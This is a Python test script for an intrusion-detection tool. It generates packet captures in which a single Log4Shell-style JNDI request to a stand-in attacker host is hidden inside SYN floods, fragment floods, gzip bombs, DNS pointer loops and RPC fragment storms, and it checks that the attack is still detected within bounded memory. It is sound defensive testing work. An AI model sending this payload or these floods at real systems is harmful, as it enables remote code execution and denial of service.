@@ -1,0 +1,151 @@
+#!/usr/bin/env python3
+"""floods.py MAMORI BUILD - recorded floods and bombs, each with one real attack in its middle: the attack is found, memory stays bounded, and what was
+given up is said. The captures are made here, with addresses of RFC 5737."""
+import gzip
+import io
+import json
+import os
+import struct
+import subprocess
+import sys
+import tempfile
+
+MAMORI, BUILD = sys.argv[1:3]
+SYN, ACK, PSH = 2, 16, 8
+SERVER, ATTACKER = bytes([192, 168, 77, 5]), bytes([198, 51, 100, 7])
+IS_SANITIZED = "fsanitize" in open(os.path.join(BUILD, "CMakeCache.txt")).read()
+MORE_MB = 600 if IS_SANITIZED else 160  # over a run with the attack alone: tables and windows at their ceilings
+failed = []
+
+
+def case(name, ok, said=""):
+    print(f"[       OK ] {name}" if ok else f"[  FAILED  ] {name}\n    {str(said)[-2000:]}", flush=True)
+    if not ok:
+        failed.append(name)
+
+
+def ip(src, dst, proto, payload, ident=1, frag=0):
+    return bytes([2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0]) + struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident & 0xFFFF, frag, 64, proto, 0, src, dst) + payload
+
+
+def tcp(src, dst, sport, dport, seq, ack, flags, data=b""):
+    return ip(src, dst, 6, struct.pack(">HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags, 65535, 0, 0) + data)
+
+
+def udp(src, dst, sport, dport, data):
+    return ip(src, dst, 17, struct.pack(">HHHH", sport, dport, 8 + len(data), 0) + data)
+
+
+def talk(src, sport, dport, up, down=()):
+    """A connection: what each side sends, piece by piece, one side after the other."""
+    q, a = 1000, 5000
+    yield tcp(src, SERVER, sport, dport, q, 0, SYN)
+    yield tcp(SERVER, src, dport, sport, a, q + 1, SYN | ACK)
+    q, a = q + 1, a + 1
+    yield tcp(src, SERVER, sport, dport, q, a, ACK)
+    for data in up:
+        yield tcp(src, SERVER, sport, dport, q, a, PSH | ACK, data)
+        q += len(data)
+    for data in down:
+        yield tcp(SERVER, src, dport, sport, a, q, PSH | ACK, data)
+        a += len(data)
+
+
+def attack():
+    return talk(ATTACKER, 40000, 80, [b"GET /?q=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\n\r\n"],
+                [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"])
+
+
+def other(i):
+    return struct.pack(">I", 0xCB000000 + i * 7919 % 0xFFFFFF)
+
+
+def syn_flood():
+    for i in range(400000):
+        yield tcp(other(i), SERVER, 1024 + i % 60000, 80, i, 0, SYN)
+
+
+def fragment_flood():
+    for i in range(120000):
+        yield ip(other(i), SERVER, 17, b"\x00" * 1024, i, 0x2000 | (i % 16) * 128)
+
+
+def pipelining():
+    one = b"GET /a HTTP/1.1\r\nHost: a\r\n\r\n"
+    for c in range(40):
+        yield from talk(other(c), 30000 + c, 80, [one * 40] * 60)
+
+
+def gzip_bombs():
+    out = io.BytesIO()
+    with gzip.GzipFile(fileobj=out, mode="wb") as g:
+        for _ in range(200):
+            g.write(b"\0" * (1 << 20))
+    body = out.getvalue()
+    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
+    for c in range(10):
+        yield from talk(other(c), 31000 + c, 80, [b"GET /b HTTP/1.1\r\nHost: b\r\n\r\n"], [head] + [body[i:i + 1400] for i in range(0, len(body), 1400)])
+
+
+def dns_loops():
+    head = b"\x12\x34\x81\x80\x00\x01\x00\x08\x00\x00\x00\x00"
+    for i in range(60000):
+        loop = b"\xc0\x0c\x00\x01\x00\x01" if i % 2 else b"\x01a\xc0\x0e\x00\x01\x00\x01"
+        yield udp(other(i), SERVER, 53, 30000 + i % 1000, head + loop + b"\xc0\x0c\x00\x05\x00\x01\x00\x00\x00\x01\x00\x02\xc0\x0c" * 8)
+
+
+def rpc_fragments():
+    bind = bytes.fromhex("05000b03100000004800000001000000b810b8100000000001000000000001000883afe11f5dc91191a408002b14a0fa030000000"
+                         "45d888aeb1cc9119fe808002b10486002000000")
+    body = b"\x05\x00\x00%c\x10\x00\x00\x00" + struct.pack("<HHIIHH", 24 + 1400, 0, 2, 1 << 20, 0, 0) + b"A" * 1400
+    for c in range(20):
+        yield from talk(other(c), 32000 + c, 135, [bind] + [body % (1 if i == 0 else 0) for i in range(1500)])
+
+
+def write(path, *parts):
+    n = 0
+    with open(path, "wb") as f:
+        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
+        for part in parts:
+            for p in part:
+                us = n * 20
+                f.write(struct.pack("<IIII", 1700000000 + us // 1000000, us % 1000000, len(p), len(p)) + p)
+                n += 1
+    return n
+
+
+def replay(path, folder):
+    out = open(os.path.join(folder, "out"), "w+b")
+    p = subprocess.Popen([MAMORI, "replay", "--pcap", path, "--home-net", "192.168.77.0/24", "--findings"], stdout=out, stderr=subprocess.PIPE)
+    err = p.stderr.read().decode("utf-8", "replace")
+    _, status, usage = os.wait4(p.pid, 0)
+    p.returncode = os.waitstatus_to_exitcode(status)
+    out.seek(0)
+    text = out.read().decode("utf-8", "replace")
+    return p.returncode, text, err, usage.ru_maxrss / 1024
+
+
+def main():
+    folder = tempfile.mkdtemp(prefix="mamori-floods-")
+    path = os.path.join(folder, "a.pcap")
+    write(path, attack())
+    rc, text, err, base_mb = replay(path, folder)
+    case("the_attack_alone_is_found", rc == 0 and "sid:9000002" in text, err)
+    for name, part in (("a_syn_flood", syn_flood), ("a_fragment_flood", fragment_flood), ("pipelined_requests", pipelining), ("gzip_bombs", gzip_bombs),
+                       ("dns_pointer_loops", dns_loops), ("rpc_fragment_storms", rpc_fragments)):
+        packets = list(part())
+        half = len(packets) // 2
+        n = write(path, packets[:half], attack(), packets[half:])
+        del packets
+        rc, text, err, mb = replay(path, folder)
+        case(f"{name}_hides_no_attack", rc == 0 and "sid:9000002" in text, (rc, err))
+        case(f"{name}_stays_within_memory", mb < base_mb + MORE_MB, f"{n} packets: {mb:.0f} MB, alone {base_mb:.0f} MB")
+        print(f"    {name}: {n} packets, {mb:.0f} MB (the attack alone: {base_mb:.0f} MB)")
+        classes = [json.loads(l)["unmapped"]["mamori"] for l in text.splitlines() if '"class_uid":2005' in l]
+        case(f"{name}_blames_only_the_attacker", all("198.51.100.7" in c.get("attackers", []) or c["class"] != "severe" for c in classes), classes)
+    subprocess.run(["rm", "-rf", folder], check=True)
+    return 1 if failed else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
